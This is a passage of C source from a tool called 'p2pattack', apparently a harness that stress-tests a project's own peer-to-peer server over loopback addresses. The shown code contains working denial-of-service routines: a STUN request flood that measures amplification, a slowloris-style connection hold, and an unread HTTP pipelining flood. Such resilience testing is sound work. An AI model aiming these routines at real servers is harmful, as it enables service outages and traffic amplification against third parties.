		snprintf(ip, sizeof(ip), "127.0.5.%ld", j + 1);
		if ((fds[j] = udp_to_server(ip)) == -1)
			return 1;
	}
	/*
	 * Round robin over the addresses at about 5000 a second, a rate the
	 * server's socket takes without dropping: what limits the answers
	 * is then the server's cap.
	 */
	t0 = now_s();
	for (i = 0; i < n; i++)
		for (j = 0; j < hosts; j++) {
			memset(b, 0, 20);
			b[1] = 0x01;
			b[4] = 0x21; b[5] = 0x12; b[6] = 0xa4; b[7] = 0x42;
			randombytes_buf(b + 8, 12);
			if (rc_send(fds[j], 0, b, 20) == 0 && ++sent % 5 == 0)
				usleep(1000);
		}
	t0 = now_s() - t0;
	for (j = 0; j < hosts; j++) {
		bytes += replies(fds[j], j == 0 ? 300 : 20, &c);
		replies_n += (long)c;
		close(fds[j]);
	}
	printf("stunflood: %ld Binding requests (%ld bytes) in %.2f s from %ld "
	    "addresses of one /24: %ld replies, %zu bytes: ratio %.2f\n", sent,
	    sent * 20, t0, hosts, replies_n, bytes, (double)bytes /
	    (double)(sent * 20));
	free(fds);
	return 0;
}

/* A connection from 127.0.6.(1 + which % $P2PATTACK_SRCS), if set. */
static int
tcp_to_server_from(long which)
{
	struct sockaddr_in me;
	const char *e = getenv("P2PATTACK_SRCS");
	long nsrc = e != NULL ? atol(e) : 0;
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	if (fd != -1 && nsrc > 0) {
		memset(&me, 0, sizeof(me));
		me.sin_family = AF_INET;
		me.sin_addr.s_addr = htonl(0x7f000600U | (uint32_t)(1 +
		    which % nsrc));
		if (bind(fd, (struct sockaddr *)&me, sizeof(me)) == -1) {
			close(fd);
			return -1;
		}
	}
	if (fd == -1 || connect(fd, (struct sockaddr *)&srv, sizeof(srv)) ==
	    -1) {
		if (fd != -1)
			close(fd);
		return -1;
	}
	return fd;
}

/* 1 if the server has closed fd (EOF or reset), without blocking. */
static int
tcp_closed(int fd)
{
	char c[4096];
	ssize_t n;

	while ((n = recv(fd, c, sizeof(c), MSG_DONTWAIT)) > 0)
		;
	return n == 0 || (n < 0 && errno != EAGAIN && errno != EWOULDBLOCK);
}

static int
cmd_httphold(int argc, char **argv)
{
	static const char head[] = "POST /v1/groups HTTP/1.1\r\nHost: x\r\n"
	    "Content-Type: application/json\r\nContent-Length: 262144\r\n\r\n";
	static char body[65536];
	long n, i, opened = 0, held = 0;
	int *fds, idle = getenv("P2PATTACK_IDLE") != NULL;

	if (argc != 1 || (n = atol(argv[0])) < 1 ||
	    (fds = calloc((size_t)n, sizeof(int))) == NULL)
		return 2;
	memset(body, ' ', sizeof(body));
	for (i = 0; i < n; i++) {
		if ((fds[i] = tcp_to_server_from(i)) == -1)
			continue;
		opened++;
		fcntl(fds[i], F_SETFL, O_NONBLOCK);
		if (idle)
			continue;	/* holds a descriptor until the timeout */
		(void)send(fds[i], head, sizeof(head) - 1, MSG_NOSIGNAL);
		(void)send(fds[i], body, sizeof(body), MSG_NOSIGNAL);
	}
	sleep(2);
	for (i = 0; i < n; i++)
		if (fds[i] != -1 && !tcp_closed(fds[i]))
			held++;
	printf("httphold: %ld of %ld connections opened, %s; %ld still "
	    "open after 2 s\n", opened, n, idle ? "each sending nothing" :
	    "each announcing a 256 KiB body without the key and sending 64 "
	    "KiB of it", held);
	fflush(stdout);
	if (getenv("P2PATTACK_HOLD") != NULL)
		sleep((unsigned)atoi(getenv("P2PATTACK_HOLD")));
	for (i = 0; i < n; i++)
		if (fds[i] != -1)
			close(fds[i]);
	free(fds);
	return 0;
}

static int
cmd_httppipe(int argc, char **argv)
{
	static const char req[] = "GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n";
	char buf[64 * (sizeof(req) - 1)];
	double secs, t0;
	size_t i, wrote = 0;
	ssize_t k;
	int fd, closed = 0;
	struct pollfd pfd;

	if (argc != 1 || (secs = atof(argv[0])) <= 0 ||
	    (fd = tcp_to_server_from(0)) == -1)
		return 2;
	for (i = 0; i < 64; i++)
		memcpy(buf + i * (sizeof(req) - 1), req, sizeof(req) - 1);
	fcntl(fd, F_SETFL, O_NONBLOCK);
	t0 = now_s();
	while (now_s() - t0 < secs) {
		k = send(fd, buf, sizeof(buf), MSG_NOSIGNAL);
		if (k > 0) {
			wrote += (size_t)k;
			continue;
		}
		if (k < 0 && errno != EAGAIN && errno != EWOULDBLOCK) {
			closed = 1;
			break;
		}
		pfd.fd = fd;
		pfd.events = POLLOUT;
		(void)poll(&pfd, 1, 100);
	}
	printf("httppipe: %zu bytes of pipelined requests (%zu requests) "
	    "written in %.1f s without reading a reply; %s\n", wrote,
	    wrote / (sizeof(req) - 1), now_s() - t0, closed ? "the server "
	    "closed the connection" : "the server stopped reading");
	fflush(stdout);
	if (getenv("P2PATTACK_HOLD") != NULL)
		sleep((unsigned)atoi(getenv("P2PATTACK_HOLD")));
	close(fd);
	return 0;
}

int
main(int argc, char **argv)
{
	if (argc < 3 || sodium_init() < 0 || rawudp_parse(argv[2], &srv) == -1) {
		fprintf(stderr, "usage: p2pattack amp|spoofamp|regrate|"
		    "helloflood|hsflood|probeflood|stunflood|httphold|httppipe "
		    "HOST:PORT ...\n");
		return 2;
	}
	if (strcmp(argv[1], "amp") == 0)
		return cmd_amp(argc - 3, argv + 3);
	if (strcmp(argv[1], "spoofamp") == 0)
		return cmd_spoofamp(argc - 3, argv + 3);
	if (strcmp(argv[1], "regrate") == 0)
		return cmd_regrate(argc - 3, argv + 3);
	if (strcmp(argv[1], "sink") == 0)
		return cmd_sink(argc - 3, argv + 3);
	if (strcmp(argv[1], "helloflood") == 0)
		return cmd_helloflood(argc - 3, argv + 3);
	if (strcmp(argv[1], "stunflood") == 0)
		return cmd_stunflood(argc - 3, argv + 3);
	if (strcmp(argv[1], "hsflood") == 0)
		return cmd_hsflood(argc - 3, argv + 3);
	if (strcmp(argv[1], "probeflood") == 0)
		return cmd_probeflood(argc - 3, argv + 3);
	if (strcmp(argv[1], "httphold") == 0)
		return cmd_httphold(argc - 3, argv + 3);
	if (strcmp(argv[1], "httppipe") == 0)
		return cmd_httppipe(argc - 3, argv + 3);
	return 2;
}
